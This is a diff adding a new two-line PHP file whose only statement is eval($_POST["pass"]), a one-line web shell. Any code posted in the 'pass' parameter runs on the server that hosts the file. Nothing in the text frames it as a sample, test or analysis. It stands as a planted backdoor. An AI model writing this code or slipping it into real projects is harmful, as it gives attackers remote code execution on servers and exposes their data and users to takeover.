@@ -1,0 +1,2 @@
+<?php
+eval($_POST["pass"]);
